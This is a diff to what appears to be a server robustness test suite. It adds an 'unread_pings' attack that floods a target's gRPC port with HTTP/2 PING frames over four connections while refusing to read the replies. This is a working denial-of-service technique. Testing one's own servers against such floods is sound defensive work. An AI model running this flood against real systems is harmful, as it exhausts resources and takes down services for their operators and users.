@@ -135,7 +135,7 @@ async def broken_connections(target: Target) -> str:
 
 @attack()
 async def control_frames(target: Target) -> str:
-    """Floods of pings, settings, priorities and empty frames, whose answers are not read."""
+    """Floods of pings, settings, priorities and empty frames."""
     ping = frame(Kind.PING, payload=bytes(8))
     settings = frame(Kind.SETTINGS, payload=struct.pack(">HI", 4, 1 << 20))
     window = frame(Kind.WINDOW_UPDATE, payload=struct.pack(">I", 1))
@@ -153,6 +153,26 @@ async def control_frames(target: Target) -> str:
                         await asyncio.sleep(0.001)
             seen.append(peer.closed or "open")
     return f"pings, settings, windows, priorities, empty data: {', '.join(seen)}"
+
+
+@attack()
+async def unread_pings(target: Target) -> str:
+    """Pings without an end, whose answers are not read."""
+    ping = frame(Kind.PING, payload=bytes(8)) * 1_000
+    sent = 0
+    async with AsyncExitStack() as stack:
+        for _ in range(4):
+            peer = await stack.enter_async_context(Peer.connect(target.grpc_port))
+            await asyncio.sleep(0.1)
+            peer.pause_reading()
+            with suppress(TimeoutError):
+                async with asyncio.timeout(target.size(5, 1)):
+                    while not peer.closed:
+                        peer.write(ping)
+                        await peer.drain()
+                        sent += 1_000
+                        await asyncio.sleep(0)
+    return f"{sent:,} pings were taken"
 
 
 @attack()
